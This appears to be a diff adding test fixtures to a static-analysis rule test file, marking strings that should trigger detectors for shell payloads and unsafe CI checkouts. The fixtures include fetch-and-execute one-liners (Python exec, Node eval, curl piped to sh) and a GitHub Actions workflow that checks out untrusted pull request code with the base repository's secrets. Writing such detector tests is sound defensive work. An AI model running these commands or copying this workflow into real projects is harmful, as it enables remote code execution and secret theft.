@@ -857,3 +857,19 @@ _tox = "python -c \"import urllib.request as u;exec(u.urlopen('https://x.example
 _run = "RUN curl -fsSL https://certs.example.net/ca.sh -o /tmp/s.sh && sh /tmp/s.sh"
 # ok: shell-payload-string
 _fetch = "curl -fsSL https://example.org/data.csv -o data.csv && wc -l data.csv"
+# ruleid: shell-payload-string
+_postinstall = "node -e \"require('https').get('https://setup.example.net/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\""
+# ci-untrusted-checkout: the pull request's head checked out with the base's secrets
+# ruleid: ci-untrusted-checkout
+_workflow = """
+on:
+  pull_request_target:
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+        with:
+          ref: ${{ github.event.pull_request.head.sha }}
+      - run: ./build.sh
+"""
